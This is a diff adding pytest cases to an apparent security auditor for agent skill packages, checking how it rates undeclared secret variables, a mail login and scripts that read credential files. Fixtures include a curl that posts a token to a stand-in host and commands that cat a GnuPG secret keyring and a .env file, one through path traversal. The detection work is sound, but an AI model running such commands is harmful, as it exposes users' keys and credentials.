@@ -43,3 +43,56 @@ def test_a_variable_of_one_command_is_the_users_again_behind_it(command: str) ->
 def test_a_variable_that_is_declared_stays_the_scripts_own(word: str) -> None:
     code = f'show() {{\n  {word}token="$1"\n  curl -d "t=$token" https://c.example.invalid/x\n}}\nshow "$2"\n'
     assert audited({"SKILL.md": "# A\n", "a.sh": code}).verdict is not Verdict.FAIL
+
+
+def _page(said: str, **files: str) -> Verdict:
+    page = f"---\nname: notes\ndescription: Keeps notes.\n---\n\n# Notes\n\n{said}\n"
+    return audited({"SKILL.md": page, **{name.replace("_", "."): text for name, text in files.items()}}).verdict
+
+
+@pytest.mark.parametrize(
+    ("said", "name"),
+    [
+        ("Set `WALLET_PRIVATE_KEY` first.", "PRIVATE_KEY"),
+        ("Set `QUODDLE_SECRET_KEY` first.", "QUODDLE_ACCESS_SECRET"),
+        ("Set `QUODDLE_PASSWORD` first.", "QUODDLE_API_KEY"),
+        ("Set `TENCENTCLOUD_SECRET_KEY` first.", "TENCENTCLOUD_TOKEN"),
+        ("```bash\n# needs QUODDLE_TOKEN in the environment\npython3 a.py\n```", "QUODDLE_TOKEN"),
+        ("```\nQUODDLE_TOKEN  # of your account\n```", "QUODDLE_TOKEN"),
+    ],
+)
+def test_what_a_declared_name_tells_of_is_declared(said: str, name: str) -> None:
+    assert _page(said, a_py=_READ.format(name=name)) is Verdict.WARN
+
+
+@pytest.mark.parametrize(
+    ("said", "name"),
+    [
+        ("Set `WALLET_PRIVATE_KEYS` first.", "PRIVATE_KEY"),
+        ("Set `WALLET_API_KEY` first.", "PRIVATE_KEY"),
+        ("Set `QUODDLE_API_KEY` first.", "QUODDLE_PRIVATE_KEY"),
+        ("Set `QUODDLE_API_KEY` first.", "QUODDLE_BANK_API_KEY"),
+        ("Set `QUODDLE_API_KEY` first.", "GITHUB_TOKEN"),
+        ("```bash\n# takes QUODDLE_TOKEN\npython3 a.py\n```", "QUODDLE_TOKEN"),
+        ("```python\nprint(os.environ['QUODDLE_TOKEN'])\n```", "QUODDLE_TOKEN"),
+    ],
+)
+def test_another_key_is_not(said: str, name: str) -> None:
+    assert _page(said, a_py=_READ.format(name=name)) is Verdict.FAIL
+
+
+def test_a_login_for_the_mail_server_that_is_set_beside_it_warns() -> None:
+    login = (
+        "import os, smtplib\nhost = os.environ['EMAIL_SMTP_HOST']\nserver = smtplib.SMTP(host, 587)\n"
+        "server.login(os.environ['EMAIL_USER'], os.environ['EMAIL_PASSWORD'])\n"
+    )
+    assert _page("Sends mail.", a_py=login) is Verdict.WARN
+    fixed = login.replace("os.environ['EMAIL_SMTP_HOST']", "'smtp.example.invalid'")
+    assert _page("Sends mail.", a_py=fixed) is Verdict.FAIL
+
+
+def test_a_template_of_settings_and_the_settings_of_gnupg_hold_no_secret() -> None:
+    for path in ("~/.openclaw/.env.example", "~/.gnupg/gpg.conf"):
+        assert _page("Shows it.", a_sh=f"cat {path}\n") is not Verdict.FAIL
+    for path in ("~/.openclaw/.env", "~/.gnupg/secring.gpg", "~/.gnupg/gpg.conf/../secring.gpg"):
+        assert _page("Shows it.", a_sh=f"cat {path}\n") is Verdict.FAIL
